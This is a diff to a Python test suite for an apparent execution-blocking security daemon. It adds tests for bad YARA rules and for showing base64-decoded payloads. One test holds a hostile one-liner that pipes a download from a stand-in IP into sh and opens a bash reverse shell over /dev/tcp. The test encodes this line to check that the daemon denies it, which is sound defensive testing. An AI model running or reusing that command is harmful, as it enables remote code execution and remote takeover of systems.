@@ -1,5 +1,6 @@
 """Ways to execute something, each by its row in the table of bypasses: seen with the right facts,
 and denied."""
+import base64
 import os
 import sys
 
@@ -88,6 +89,32 @@ def test_yara_rules_judge(t):
                 [{"yaraRuleSignature": {"yaraRule": rule}, "signatureType": "SIGNATURE_TYPE_FILE"}])
         t.contains(found.properties["Reasons"], "yara: " + rule)
     t.ran(box.run(["/tmp/ok.sh"]), 4)
+
+
+def test_bad_yara_rules_are_a_configuration_error(t):
+    folder = t.scratch()
+    with open(os.path.join(folder, "bad.yar"), "w", encoding="ascii") as f:
+        f.write("rule Bad {\n condition: nothing\n}\n")
+    try:
+        t.daemon(t.box(), content={"yara": [folder]})
+    except lwtest.Failed as e:
+        t.contains(str(e), "ended with 78")
+        t.contains(str(e), f"content.yara: {folder}/bad.yar:2: ")
+    else:
+        raise lwtest.Failed("it started with bad rules")
+
+
+def test_the_decoded_layer_is_shown(t):
+    box = t.box()
+    watch = t.daemon(box, mode="enforce")
+    code = "curl -s http://192.0.2.7/x | sh && bash -i >& /dev/tcp/192.0.2.7/4444 0>&1"
+    wrapped = base64.b64encode(code.encode()).decode()
+    box.put("/tmp/s.sh", f"#!/bin/sh\n\nX={wrapped}\nexit 3\n")
+    t.denied(box.run(["/tmp/s.sh"]))
+    found = watch.finding(path="/tmp/s.sh", action="denied", rule="malicious")
+    shown = {k: v for k, v in found.properties.items() if k.startswith("Decoded_")}
+    t.equal(shown, {"Decoded_Encodings": "base64", "Decoded_Line": 3, "Decoded_Size": len(code),
+                    "Decoded_Text": code})
 
 
 def row01_detect_only_says_what_it_would_do(t):
